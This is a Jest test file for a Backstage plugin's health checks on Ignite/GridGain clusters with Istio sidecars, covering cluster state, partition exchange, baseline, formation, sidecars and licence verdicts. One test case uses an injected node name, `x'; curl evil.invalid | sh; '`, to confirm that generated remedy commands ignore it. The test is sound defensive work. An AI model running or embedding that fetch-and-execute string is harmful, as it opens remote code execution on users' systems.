import type { Facts } from '@ringfence/backstage-plugin-ringfence-node';
import {
  findingsOf,
  verdictsOf,
  type Row,
} from '../../../checks/__testUtils__/ask';
import {
  FORBIDDEN,
  healthyFacts,
  mintPki,
  NOW,
  seen,
} from '../../../checks/__testUtils__/facts';
import { peerAuthentication } from '../../../checks/__testUtils__/objects';
import { igniteSidecar } from '..';
import { exampleSpec } from '../__fixtures__/spec';
import { MARKS } from '../logMarks';
import { baseline } from './baseline';
import { clusterForms } from './clusterForms';
import { clusterState } from './clusterState';
import { licence } from './licence';
import { oneOfOne } from './oneOfOne';
import { partitionExchange } from './partitionExchange';

const spec = exampleSpec({ product: 'gridgain' });

/** A ready pod, as a namespace with sidecars has it unless told otherwise. */
const pod = (ordinal: number, containers = ['ignite', 'istio-proxy']) => ({
  apiVersion: 'v1',
  kind: 'Pod',
  metadata: { name: `orders-${ordinal}`, namespace: 'orders' },
  spec: { containers: containers.map(name => ({ name })) },
  status: {
    podIP: `10.0.0.${ordinal}`,
    conditions: [{ type: 'Ready', status: 'True' }],
  },
});
const node = (ordinal: number, state = 'UN') => ({
  address: `10.0.0.${ordinal}`,
  hostId: `orders-${ordinal}`,
  state,
  datacenter: '',
});
const mark = (name: string, ordinal = 1) => ({
  name,
  pod: `orders-${ordinal}`,
});
const inDays = (days: number) =>
  new Date(NOW.getTime() + days * 24 * 60 * 60_000).toISOString();

let facts: Facts;
beforeAll(async () => {
  facts = {
    ...healthyFacts(await mintPki()),
    spec,
    observation: igniteSidecar.observation(spec),
    pods: seen([pod(0), pod(1)]),
    ring: seen([node(0), node(1)]),
    clusterState: seen('ACTIVE'),
    logMarks: seen([]),
    apart: seen([]),
    licence: seen({ is: 'readable', expiresAt: inDays(200), maxNodes: 2 }),
  };
});

it.each<Row>([
  ['takes requests', {}, ['ok Active']],
  [
    'refuses writes',
    { clusterState: seen('ACTIVE_READ_ONLY') },
    ['warning ReadOnly'],
  ],
  [
    'was never activated',
    { clusterState: seen('INACTIVE') },
    ['failing Inactive'],
  ],
  ['cannot be asked', { clusterState: FORBIDDEN }, ['unknown NotLooked']],
  ['was not asked yet', { clusterState: undefined }, ['unknown NotLooked']],
])('says of a cluster whether it %s', (_name, changes, verdicts) => {
  expect(verdictsOf(clusterState, facts, changes)).toEqual(verdicts);
});

it.each<Row>([
  ['nobody waits', {}, ['ok Exchanged']],
  [
    'a node waits for it',
    { logMarks: seen([mark(MARKS.exchangeStalled)]) },
    ['failing Stalled'],
  ],
  ['logs may not be read', { logMarks: FORBIDDEN }, ['unknown NotLooked']],
  ['logs were not read yet', { logMarks: undefined }, ['unknown NotLooked']],
])(
  'looks for a stall on partition map exchange: %s',
  (_n, changes, verdicts) => {
    expect(verdictsOf(partitionExchange, facts, changes)).toEqual(verdicts);
  },
);

it.each<Row>([
  ['each is in the baseline', {}, ['ok Complete']],
  [
    'one was added and keeps none',
    { ring: seen([node(0), node(1, 'UJ')]) },
    ['failing OutsideBaseline'],
  ],
  ['nobody could be asked', { ring: FORBIDDEN }, ['unknown NotLooked']],
])('says whether all nodes keep data: %s', (_name, changes, verdicts) => {
  expect(verdictsOf(baseline, facts, changes)).toEqual(verdicts);
});

it.each([
  ['orders-2', /control\.sh --user ignite --baseline add orders-2'$/],
  [`x'; curl evil.invalid | sh; '`, /^kubectl get pods -n orders -o wide$/],
])(
  'has nothing run that a node says of itself, such as %s',
  (hostId, command) => {
    const ring = seen([node(0), { ...node(2, 'UJ'), hostId }]);
    const [{ remedy }] = findingsOf(baseline, { ...facts, ring });
    expect(remedy?.command).toMatch(command);
  },
);

it('says which node cannot be reached where an exchange stands still', () => {
  const marks = [
    mark(MARKS.exchangeStalled, 0),
    mark(MARKS.peerUnreachable, 1),
  ];
  const [finding] = findingsOf(partitionExchange, {
    ...facts,
    logMarks: seen(marks),
  });
  expect(finding.summary).toBe(
    'orders-0 waits for a partition map exchange that does not end: orders-1 cannot reach another node on 47100',
  );
  expect(finding.remedy?.text).toContain('tcp-communication');
});

it.each<Row>([
  ['all are in one topology', {}, ['ok Formed']],
  [
    'one finds no other, under STRICT',
    { logMarks: seen([mark(MARKS.joinFails)]) },
    ['failing NoClusterAfterStrict'],
  ],
  [
    'two have formed a cluster each, under STRICT',
    { ring: seen([node(0)]), apart: seen(['orders-1']) },
    ['failing NoClusterAfterStrict'],
  ],
  [
    'a node of the baseline runs, but not in this topology',
    {
      ring: seen([node(0), { ...node(1, 'DN'), address: 'orders-1' }]),
      apart: seen(['orders-1']),
    },
    ['failing NoClusterAfterStrict'],
  ],
  [
    'a node has just stopped, and its pod is ready for some seconds more',
    { ring: seen([node(0), node(1, 'DN')]) },
    ['unknown Changing'],
  ],
  [
    'a node is missing, and nobody could ask its pod',
    { ring: seen([node(0)]), apart: FORBIDDEN },
    ['unknown Changing'],
  ],
  [
    'a node is away, and so is its pod',
    { ring: seen([node(0), node(1, 'DN')]), pods: seen([pod(0)]) },
    ['ok Formed'],
  ],
  [
    'one finds no other, and plaintext is taken',
    {
      logMarks: seen([mark(MARKS.joinFails)]),
      peerAuthentications: seen([peerAuthentication('PERMISSIVE')]),
    },
    ['failing NoCluster'],
  ],
  [
    'pods cannot be read, so that one may stand alone',
    { ring: seen([node(0)]), pods: FORBIDDEN },
    ['unknown NotLooked'],
  ],
  [
    'nodes cannot be asked, and logs show nothing',
    { ring: FORBIDDEN },
    ['unknown NotLooked'],
  ],
])('sees whether nodes come together: %s', (_name, changes, verdicts) => {
  expect(verdictsOf(clusterForms, facts, changes)).toEqual(verdicts);
});

it.each<Row>([
  ['each is at 2/2', {}, ['ok TwoOfTwo']],
  [
    'one has no sidecar',
    { pods: seen([pod(0), pod(1, ['ignite'])]) },
    ['failing PodsAtOneOfOne'],
  ],
  ['there are none', { pods: seen([]) }, ['unknown NoPods']],
  ['they cannot be read', { pods: FORBIDDEN }, ['unknown NotLooked']],
])('counts the containers of pods: %s', (_name, changes, verdicts) => {
  expect(verdictsOf(oneOfOne, facts, changes)).toEqual(verdicts);
});

it.each<Row>([
  ['valid for long', {}, ['ok Valid']],
  [
    'without an end',
    { licence: seen({ is: 'readable' as const }) },
    ['ok Valid'],
  ],
  [
    'about to end',
    { licence: seen({ is: 'readable' as const, expiresAt: inDays(29) }) },
    ['warning ExpiresSoon'],
  ],
  [
    'over',
    { licence: seen({ is: 'readable' as const, expiresAt: inDays(-1) }) },
    ['failing Expired'],
  ],
  [
    'for fewer nodes',
    { licence: seen({ is: 'readable' as const, maxNodes: 1 }) },
    ['failing TooFewNodes'],
  ],
  [
    'not there',
    { licence: seen({ is: 'missing' as const }) },
    ['failing Missing'],
  ],
  [
    'none at all',
    { licence: seen({ is: 'malformed' as const, why: 'it is no XML' }) },
    ['failing Malformed'],
  ],
  [
    'refused by a node',
    { logMarks: seen([mark(MARKS.licenceRefused)]) },
    ['failing LicenceRefused'],
  ],
  ['not to be read', { licence: FORBIDDEN }, ['unknown NotLooked']],
])('says of a licence whether it is %s', (_name, changes, verdicts) => {
  expect(verdictsOf(licence, facts, changes)).toEqual(verdicts);
});

it('asks about a licence where there must be one', () => {
  const ids = (changes: Record<string, unknown>) =>
    igniteSidecar.checks(exampleSpec(changes)).map(({ id }) => id);
  expect(ids({ product: 'gridgain' })).toContain('ring.licence');
  expect(ids({})).not.toContain('ring.licence');
});

it('gives every failure a remedy', () => {
  const broken: Facts = {
    ...facts,
    clusterState: seen('INACTIVE'),
    pods: seen([pod(0, ['ignite'])]),
    licence: seen({ is: 'missing' }),
    logMarks: seen([mark(MARKS.exchangeStalled), mark(MARKS.joinFails)]),
    ring: seen([node(0), node(1, 'UJ')]),
  };
  const findings = igniteSidecar
    .checks(spec)
    .flatMap(check => findingsOf(check, broken));
  expect(findings.map(({ status }) => status)).toEqual(
    Array(6).fill('failing'),
  );
  for (const { remedy } of findings) {
    expect(remedy).toMatchObject({
      text: expect.any(String),
      command: expect.stringContaining('-n orders'),
    });
  }
});
